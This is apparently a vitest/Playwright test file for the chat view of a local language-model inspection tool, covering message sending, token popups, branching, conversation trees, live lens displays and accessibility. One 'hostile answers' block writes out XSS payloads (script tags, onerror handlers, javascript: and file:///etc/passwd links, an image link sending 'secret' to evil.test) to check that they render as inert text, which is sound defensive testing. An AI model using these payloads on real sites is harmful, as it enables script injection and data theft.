import { describe, expect, it } from "vitest";
import type { ThemeName } from "./themes";
import type { ViewOptions } from "./harness";
import { chatState, conversation, fullConversation, node, reply, running, thoughtText, tokenLens } from "./fixtures";
import type { View } from "./harness";
import { HostError } from "./harness";
import { viewTests } from "./viewTests";

const tests = viewTests();

async function open(options: ViewOptions): Promise<View> {
  return tests.open("chat", options);
}

const full = () => chatState({ conversation: fullConversation(), context: { used: 212, size: 512 } });
const asked = () => conversation([node("q1", null, "user", "What is the capital of France?")], "q1");

/** An answer whose text and tokens are both `text`. */
function answered(text: string) {
  const nodes = [
    node("q1", null, "user", "Go on"),
    node("a1", "q1", "assistant", text, { tokens: reply(text), stop: "eos" }),
  ];
  return chatState({ conversation: conversation(nodes, "a1") });
}

describe.each<ThemeName>(["dark", "light", "contrast"])("in the %s theme", (theme) => {
  it("draws every state without a fault and without a request beyond its own files", async () => {
    const { page, faults, strayRequests } = await open({ theme, width: 300, events: { state: full() } });
    await page.getByText("One word, please.").waitFor();
    await tests.view.shot(`chat-conversation-${theme}`);
    await tests.view.event("state", chatState());
    await page.getByText("Ask, then look inside").waitFor();
    await tests.view.shot(`chat-empty-${theme}`);
    const run = running("The capital of France is **Par", thoughtText, "answer");
    await tests.view.event("state", chatState({ conversation: asked(), engine: { kind: "busy" } }));
    await tests.view.event("running", { ...run, lens: tokenLens(run.tokens, 7) });
    await page.getByText("62.4 tokens/s").waitFor();
    await tests.view.shot(`chat-running-${theme}`);
    expect(faults).toEqual([]);
    expect(strayRequests).toEqual([]);
    const wide = await page.evaluate(() => document.documentElement.scrollWidth);
    expect(wide).toBeLessThanOrEqual(300);
  });
});

describe("asking", () => {
  it("sends with Enter, begins a line with Shift+Enter, and empties the box only once it was taken", async () => {
    const { page } = await open({ events: { state: chatState() }, handlers: { send: () => null } });
    const box = page.getByPlaceholder("Ask anything");
    await box.press("Enter");
    await box.fill("First");
    await box.press("Shift+Enter");
    await box.pressSequentially("second");
    await box.press("Enter");
    await expect.poll(() => tests.view.of("send")).toEqual([{ text: "First\nsecond" }]);
    await expect.poll(() => box.inputValue()).toBe("");
  });

  it("keeps what was written and shows the sentence and the remedy when the host refuses", async () => {
    const refuse = () => {
      throw new HostError({
        code: "noModel",
        message: "No model is loaded.",
        remedy: "Choose one in the Models view.",
      });
    };
    const { page } = await open({ events: { state: chatState() }, handlers: { send: refuse } });
    await page.getByPlaceholder("Ask anything").fill("Hello");
    await page.getByRole("button", { name: "Send", exact: true }).click();
    await page.getByText("No model is loaded.").waitFor();
    await page.getByText("Choose one in the Models view.").waitFor();
    expect(await page.getByPlaceholder("Ask anything").inputValue()).toBe("Hello");
  });

  it("keeps a draft across a reload", async () => {
    const { page } = await open({ events: { state: chatState() }, stored: { draft: "half a thought" } });
    await expect.poll(() => page.getByPlaceholder("Ask anything").inputValue()).toBe("half a thought");
    await page.getByPlaceholder("Ask anything").fill("a whole one");
    await expect.poll(() => tests.view.stored()).toMatchObject({ draft: "a whole one" });
  });

  it("offers the questions that suit the model", async () => {
    const { page } = await open({ events: { state: chatState() }, handlers: { send: () => null } });
    await page.getByRole("button", { name: "What is 48 + 27?" }).click();
    await expect.poll(() => tests.view.of("send")).toEqual([{ text: "What is 48 + 27?" }]);
  });

  it("stops a running answer", async () => {
    const state = chatState({ conversation: asked(), engine: { kind: "busy" }, running: running("Par", "", "answer") });
    const { page } = await open({ events: { state }, handlers: { stop: () => null } });
    await page.getByRole("button", { name: "Stop" }).click();
    await expect.poll(() => tests.view.of("stop").length).toBe(1);
  });

  it("says what the engine is doing and offers a way on when it failed", async () => {
    const error = {
      code: "engineDied",
      message: "The engine ended 4 times in 3 minutes.",
      remedy: "Restart it.",
    } as const;
    const { page } = await open({
      events: { state: chatState({ engine: { kind: "loading", fraction: 0.4, file: "/m/specimen.gguf" } }) },
      handlers: { restartEngine: () => null },
    });
    expect(await page.getByRole("progressbar").getAttribute("aria-valuenow")).toBe("40");
    await tests.view.event("state", chatState({ engine: { kind: "failed", error } }));
    await page.getByText(error.message).waitFor();
    await page.getByRole("button", { name: "Restart the engine" }).click();
    await expect.poll(() => tests.view.of("restartEngine").length).toBe(1);
  });
});

describe("tokens", () => {
  it("opens a word of the rendered text on hover, with its probability and alternatives", async () => {
    const { page } = await open({ events: { state: answered("Rome is **old** and large.") } });
    await page.locator(".markdown [data-t]", { hasText: "old" }).hover();
    const dialog = page.getByRole("dialog", { name: /Token/ });
    await dialog.waitFor();
    const tokens = reply("Rome is **old** and large.");
    const index = tokens.findIndex((token) => token.text === "old");
    expect(await dialog.innerText()).toContain(`token ${index + 1}`);
    for (const other of tokens[index]!.top) expect(await dialog.innerText()).toContain(other.text.trim());
  });

  it("marks exactly the tokens' own characters in headings, lists, tables, code and links", async () => {
    const text =
      "# One *two*\n\n1. a `b c` [link](https://x.test/a) a&amp;b \\* z\n   - in\n\n| h1 | h2 |\n|---|--:|\n| c1 | c1 |\n\n```js\nlet a = 1;\n\n  a\n```\n> q **w**";
    const { page } = await open({ events: { state: answered(text) } });
    await page.locator(".markdown table").waitFor();
    const spans = await page
      .locator(".markdown [data-t]")
      .evaluateAll((all) =>
        all.map((each) => ({ index: Number((each as HTMLElement).dataset["t"]), text: each.textContent ?? "" })),
      );
    const tokens = reply(text);
    expect(spans.length).toBeGreaterThan(25);
    for (const span of spans) {
      const token = tokens[span.index]!.text;
      // An entity is one character made of several tokens: it belongs to the first.
      if (span.text === "&" || span.text === "*") continue;
      expect(token).toContain(span.text);
    }
    // Both cells say c1: each is its own token.
    const cells = await page
      .locator(".markdown td [data-t]")
      .evaluateAll((all) => all.map((each) => (each as HTMLElement).dataset["t"]));
    expect(new Set(cells).size).toBe(cells.length);
    expect(cells.map(Number)).toEqual([...cells.map(Number)].sort((a, b) => a - b));
  });

  it("branches from an alternative", async () => {
    const { page } = await open({ events: { state: answered("Rome is old.") }, handlers: { branch: () => null } });
    await page.locator(".markdown [data-t]", { hasText: "is" }).click();
    const tokens = reply("Rome is old.");
    const other = tokens[1]!.top.find((each) => each.id !== tokens[1]!.id)!;
    await page.getByRole("dialog").locator("button.bar").first().click();
    await expect.poll(() => tests.view.of("branch")).toEqual([{ node: "a1", token: 1, choice: other.id }]);
  });

  it("is walked by keyboard alone: tokens layer, arrows, Enter, an alternative, Escape back", async () => {
    const { page } = await open({ events: { state: answered("Rome is old.") }, handlers: { branch: () => null } });
    await page.getByRole("button", { name: "Show every token" }).focus();
    await page.keyboard.press("Enter");
    const layer = page.getByRole("listbox", { name: /^Tokens of the answer/ });
    await layer.locator('[tabindex="0"]').focus();
    await page.keyboard.press("ArrowRight");
    await page.keyboard.press("ArrowRight");
    expect(await page.evaluate(() => document.activeElement?.textContent)).toBe("␣old");
    await page.keyboard.press("Enter");
    await expect.poll(() => page.evaluate(() => document.activeElement?.className)).toBe("bar");
    await page.keyboard.press("Escape");
    expect(await page.evaluate(() => document.activeElement?.textContent)).toBe("␣old");
    expect(await page.getByRole("dialog").count()).toBe(0);
    await page.keyboard.press("Enter");
    await expect.poll(() => page.evaluate(() => document.activeElement?.className)).toBe("bar");
    await page.keyboard.press("Enter");
    await expect.poll(() => tests.view.of<{ token: number }>("branch").map(({ token }) => token)).toEqual([2]);
  });

  it("opens every instrument on what the model had read before the token", async () => {
    const { page } = await open({
      events: { state: answered("Rome is old.") },
      handlers: {
        render: () => ({
          text: "<q>",
          tokens: [
            { id: 90, text: "<q>" },
            { id: 91, text: "Go on" },
          ],
        }),
      },
    });
    const tokens = reply("Rome is old.");
    for (const name of ["Lens", "Layers", "Attribution", "Neurons", "Attention", "Embedding"]) {
      await page.locator(".markdown [data-t]", { hasText: "old" }).click();
      await page.getByRole("dialog").getByRole("button", { name, exact: true }).click();
      await page.keyboard.press("Escape");
    }
    await expect.poll(() => tests.view.of("openInstrument").length).toBe(6);
    expect(tests.view.of("openInstrument")[0]).toEqual({
      instrument: "lens",
      tokens: [90, 91, tokens[0]!.id, tokens[1]!.id],
      position: 3,
      target: " old",
      title: "at ␣old",
    });
    expect(tests.view.of("render")[0]).toEqual({
      input: { kind: "chat", messages: [{ role: "user", content: "Go on" }] },
      think: "auto",
    });
  });

  it("shows blanks, controls and single bytes as something to see", async () => {
    const state = answered("x");
    const odd = [
      { text: " \n", bytes: undefined },
      { text: "\u202eevil", bytes: undefined },
      { text: "\ufffd", bytes: [0xe4, 0xb8] },
      { text: "\u001b[31m", bytes: undefined },
    ];
    const tokens = odd.map(({ text, bytes }, i) => ({
      ...reply("x")[0]!,
      id: 100 + i,
      text,
      ...(bytes && { bytes }),
    }));
    state.conversation.nodes[1]!.tokens = tokens;
    const { page } = await open({ events: { state } });
    await page.getByRole("button", { name: "Show every token" }).click();
    const layer = page.getByRole("listbox", { name: /^Tokens of the answer/ });
    expect(await layer.getByRole("option").allInnerTexts()).toEqual(["␣⏎", "‹U+202E›evil", "‹E4 B8›", "␛[31m"]);
  });

  it("marks a character of several tokens once, and what follows exactly", async () => {
    const state = answered("x");
    const make = (id: number, text: string, bytes?: number[]) => ({
      ...reply("x")[0]!,
      id,
      text,
      ...(bytes && { bytes }),
    });
    state.conversation.nodes[1] = {
      ...state.conversation.nodes[1]!,
      text: "a中b",
      tokens: [make(1, "a"), make(2, "\ufffd", [0xe4, 0xb8]), make(3, "\ufffd", [0xad]), make(4, "b")],
    };
    const { page } = await open({ events: { state } });
    const spans = page.locator(".markdown [data-t]");
    await spans.first().waitFor();
    expect(
      await spans.evaluateAll((all) => all.map((each) => [(each as HTMLElement).dataset["t"], each.textContent])),
    ).toEqual([
      ["0", "a"],
      ["1", "中"],
      ["3", "b"],
    ]);
  });

  it("shades by probability with a legend when asked", async () => {
    const state = full();
    const { page } = await open({ events: { state }, handlers: { setOptions: () => null } });
    await page.getByRole("button", { name: /^Confidence/ }).click();
    await expect.poll(() => tests.view.of("setOptions")).toEqual([{ confidence: true }]);
    expect(await page.locator(".markdown.shaded").count()).toBe(0);
    await tests.view.event("state", { ...state, options: { ...state.options, confidence: true } });
    await page.getByText("Probability:").waitFor();
    expect(await page.locator(".markdown.shaded").count()).toBeGreaterThan(0);
  });
});

describe("the tree of a conversation", () => {
  it("walks siblings and shows the branches", async () => {
    const { page } = await open({ events: { state: full() }, handlers: { select: () => null } });
    const answer = page.getByRole("article", { name: "Answer" }).first();
    await answer.hover();
    expect(await answer.getByRole("group", { name: "Versions" }).innerText()).toContain("2/3");
    await answer.getByRole("button", { name: "Next version" }).click();
    await expect.poll(() => tests.view.of("select")).toEqual([{ node: "a3" }]);
    await page.getByRole("button", { name: "Branches" }).click();
    const items = page.getByRole("treeitem");
    expect(await items.count()).toBe(6);
    await items.filter({ hasText: "Lyon" }).click();
    await expect.poll(() => tests.view.of("select").length).toBe(2);
    await page.keyboard.press("Home");
    await page.keyboard.press("ArrowDown");
    await page.keyboard.press("Enter");
    await expect.poll(() => tests.view.of("select")[2]).toEqual({ node: "a1" });
  });

  it("edits a question, answers again, rates and copies", async () => {
    const { page } = await open({
      events: { state: full() },
      handlers: { edit: () => null, regenerate: () => null, rate: () => null },
    });
    await page.getByRole("button", { name: "Edit and ask anew" }).first().click();
    const editor = page.getByRole("textbox", { name: "Edit the message" });
    await editor.fill("And of Spain?");
    await editor.press("Enter");
    await expect.poll(() => tests.view.of("edit")).toEqual([{ node: "q1", text: "And of Spain?" }]);
    await page.getByRole("button", { name: "Answer again" }).last().click();
    await expect.poll(() => tests.view.of("regenerate")).toEqual([{ node: "a4" }]);
    await page.getByRole("button", { name: "Good answer" }).first().click();
    await expect.poll(() => tests.view.of("rate")).toEqual([{ node: "a2", rating: null }]);
    await page.getByRole("button", { name: "Copy", exact: true }).last().click();
    await expect.poll(() => tests.view.of("copy")).toEqual([{ text: "Rome." }]);
  });

  it("deletes a conversation only after a second yes, and renames one", async () => {
    const { page } = await open({
      events: { state: full() },
      handlers: { deleteConversation: () => null, renameConversation: () => null },
    });
    await page.getByTitle("Conversations").click();
    await page.getByRole("button", { name: "Delete “Adding numbers in one's head”" }).click();
    expect(tests.view.of("deleteConversation")).toEqual([]);
    await page.getByRole("button", { name: "Delete", exact: true }).click();
    await expect.poll(() => tests.view.of("deleteConversation")).toEqual([{ id: "c2" }]);
    await page.getByRole("button", { name: "Rename “The capital of France”" }).click();
    await page.getByRole("textbox", { name: "Rename" }).fill("Capitals");
    await page.keyboard.press("Enter");
    await expect.poll(() => tests.view.of("renameConversation")).toEqual([{ id: "c1", title: "Capitals" }]);
  });

  it("says when interventions were on", async () => {
    const state = full();
    state.conversation.leaf = "a3";
    const { page } = await open({ events: { state: { ...state, interventions: ["calm +4"] } } });
    await page.getByText("Altered").waitFor();
    await page.getByText("On: calm +4").waitFor();
  });
});

describe("hostile answers", () => {
  const hostile = [
    "<img src=x onerror=alert(1)><script>alert(1)</script><svg onload=alert(1)>",
    "![leak](https://evil.test/?q=secret) ![data](data:image/svg+xml;base64,AAAA)",
    "[click](javascript:alert(1)) [file](file:///etc/passwd) [cmd](command:workbench.action.quit) [ok](https://ok.test/a?b=1)",
    '<a href="https://evil.test" style="position:fixed">x</a> <style>*{display:none}</style>',
    "[ref]\n\n[ref]: javascript:alert(2)",
    "```html\n<script>alert(3)</script>\n```",
    '[x](https://a.test/"onmouseover="alert(4))',
    `${"> ".repeat(400)}deep ${"*".repeat(3000)}`,
  ].join("\n\n");

  it("become text: no element, no request, no link but through the host", async () => {
    const { page, faults, strayRequests } = await open({ events: { state: answered(hostile) } });
    await page.getByRole("link", { name: "ok" }).waitFor();
    const found = await page.evaluate(() => {
      const root = document.querySelector(".markdown")!;
      return {
        bad: root.querySelectorAll("img, script, svg, style, iframe, object, form, input, [href], [src], [style]")
          .length,
        handlers: [...root.querySelectorAll("*")].flatMap((each) =>
          each.getAttributeNames().filter((name) => name.startsWith("on")),
        ),
        links: [...root.querySelectorAll("[data-href]")].map((each) => each.getAttribute("data-href")),
      };
    });
    expect(found.bad).toBe(0);
    expect(found.handlers).toEqual([]);
    expect(found.links.every((link) => link?.startsWith("https://"))).toBe(true);
    expect(await page.locator(".noImage").first().innerText()).toBe("[picture, not loaded: leak]");
    await page.getByRole("link", { name: "ok" }).click();
    await expect.poll(() => tests.view.of("openExternal")).toEqual([{ url: "https://ok.test/a?b=1" }]);
    await page.getByRole("link", { name: "ok" }).press("Enter");
    await expect.poll(() => tests.view.of("openExternal").length).toBe(2);
    expect(strayRequests).toEqual([]);
    expect(faults).toEqual([]);
  });

  it("in titles, questions and names are text too", async () => {
    const state = full();
    state.conversation.title = "<img src=x onerror=alert(1)>";
    state.conversation.nodes[0]!.text = "<b>bold?</b>";
    state.model = { ...state.model!, name: "<i>model</i>" };
    const { page, strayRequests } = await open({ events: { state } });
    await page.getByText("<b>bold?</b>").waitFor();
    await page.getByText("<i>model</i>", { exact: true }).waitFor();
    expect(await page.locator("img, b, i:not(.dots i)").count()).toBe(0);
    expect(strayRequests).toEqual([]);
  });
});

describe("a running answer", () => {
  it("grows in place: blocks that are done are not written again", async () => {
    const state = chatState({ conversation: asked(), engine: { kind: "busy" } });
    const { page } = await open({ events: { state, running: running("First paragraph.\n\nSec", "", "answer") } });
    await page.getByText("First paragraph.").waitFor();
    await page.evaluate(() => Object.assign(window, { first: document.querySelector(".markdown .block > *") }));
    await tests.view.event("running", running("First paragraph.\n\nSecond one, longer.", "", "answer"));
    await page.getByText("Second one, longer.").waitFor();
    expect(
      await page.evaluate(
        () => (window as unknown as { first: Element }).first === document.querySelector(".markdown .block > *"),
      ),
    ).toBe(true);
  });

  it("unfolds the thought while it is thought, and folds it afterwards", async () => {
    const state = chatState({ conversation: asked(), engine: { kind: "busy" } });
    const { page } = await open({ events: { state, running: running("", thoughtText, "thought") } });
    await page.getByText("I can add the river").waitFor();
    await tests.view.event("running", running("Paris", thoughtText, "answer"));
    await expect.poll(() => page.getByText("I can add the river").count()).toBe(0);
    await page.getByRole("button", { name: /^Thought/ }).click();
    await page.getByText("I can add the river").waitFor();
  });

  it("grows its lens: a column a token, kept when the answer is done, also as a table", async () => {
    const run = running("Paris", thoughtText, "answer");
    const state = chatState({
      conversation: asked(),
      engine: { kind: "busy" },
      options: { ...chatState().options, liveLens: true },
    });
    const { page } = await open({ events: { state, running: { ...run, lens: tokenLens(run.tokens, 7) } } });
    await page.getByText(`8 rows × ${run.tokens.length} tokens`).waitFor();
    const done = node("run", "q1", "assistant", "Paris", { thought: thoughtText, tokens: run.tokens, stop: "eos" });
    await tests.view.event("state", chatState({ conversation: conversation([...asked().nodes, done], "run") }));
    await tests.view.event("running", null);
    await page.getByText(`8 rows × ${run.tokens.length} tokens`).waitFor();
    const map = page.getByRole("application");
    await map.focus();
    await page.keyboard.press("ArrowRight");
    await expect.poll(() => map.getByRole("status").innerText()).toMatch(/^L6, for/);
    await page.getByRole("button", { name: "As a table" }).click();
    expect(await page.locator("table.data tbody tr").count()).toBe(run.tokens.length);
  });
});

describe("the cells of a lens that follow", () => {
  it("shows them as still to come, fills them in after the answer, and marks the thought", async () => {
    const run = running("Paris", thoughtText, "answer");
    const whole = tokenLens(run.tokens, 7);
    const part = whole.map(({ rows, cells }, column) => ({
      rows,
      cells: cells.map((cell, row) => (row === cells.length - 1 || column % 4 === 3 ? cell : null)),
    }));
    const missing = part.flatMap(({ cells }) => cells).filter((cell) => cell === null).length;
    const thought = run.tokens.filter((token) => token.part === "thought").length;
    const options = { ...chatState().options, liveLens: true };
    const state = chatState({ conversation: asked(), engine: { kind: "busy" }, options });
    const { page } = await open({ events: { state, running: { ...run, lens: part } } });
    await page.getByText(`${missing} cells to follow after the answer`).waitFor();
    await page.getByText(`${thought} thinking tokens`).waitFor();
    const map = page.getByRole("application");
    await map.focus();
    await page.keyboard.press("Control+End");
    await page.keyboard.press("Control+Home");
    await page.keyboard.press("ArrowRight");
    await expect.poll(() => map.getByRole("status").innerText()).toMatch(/, in thought: /);
    await page.keyboard.press("ArrowDown");
    await expect.poll(() => map.getByRole("status").innerText()).toContain("still to come");
    await tests.view.shot("chat-lens-following");
    const done = node("run", "q1", "assistant", "Paris", { thought: thoughtText, tokens: run.tokens, stop: "eos" });
    await tests.view.event(
      "state",
      chatState({ conversation: conversation([...asked().nodes, done], "run"), options }),
    );
    await tests.view.event("running", null);
    await tests.view.event("lens", { node: "run", tokens: part, left: missing });
    await page.getByText(`${missing} cells still coming`).waitFor();
    await tests.view.event("lens", { node: "run", tokens: part, left: missing, incomplete: true });
    await page.getByText(`${missing} cells not made`).waitFor();
    await tests.view.event("lens", { node: "run", tokens: whole, left: 0 });
    await expect.poll(() => page.getByText(/cells/).count()).toBe(0);
    await page.getByRole("button", { name: "As a table" }).click();
    expect(await page.locator("table.data td").count()).toBe(8 * run.tokens.length);
    expect(await page.locator("table.data td", { hasText: /^…$/ }).count()).toBe(0);
  });
});

describe("for everybody", () => {
  it("speaks Chinese where the editor does", async () => {
    const { page } = await open({ language: "zh-cn", events: { state: chatState() } });
    await page.getByText("提问，然后看看内部").waitFor();
    await page.getByPlaceholder("随便问").waitFor();
  });

  it("gives every control a name", async () => {
    const { page } = await open({ events: { state: full() } });
    await page.getByText("Rome.").waitFor();
    const nameless = await page
      .locator("button, [role=button], input, textarea")
      .evaluateAll((all) =>
        all
          .filter(
            (each) => !(each.getAttribute("aria-label") || each.textContent?.trim() || each.getAttribute("title")),
          )
          .map((each) => each.outerHTML.slice(0, 120)),
      );
    expect(nameless).toEqual([]);
  });

  it("does not move for people who asked for less motion", async () => {
    const { page } = await open({
      reducedMotion: true,
      events: {
        state: chatState({ conversation: asked(), engine: { kind: "busy" } }),
        running: running("Pa", "", "answer"),
      },
    });
    await page.locator(".dots i").first().waitFor();
    const moving = await page.evaluate(
      () => document.getAnimations().filter((each) => (each.effect?.getComputedTiming().endTime ?? 0) !== 0).length,
    );
    expect(moving).toBe(0);
  });
});
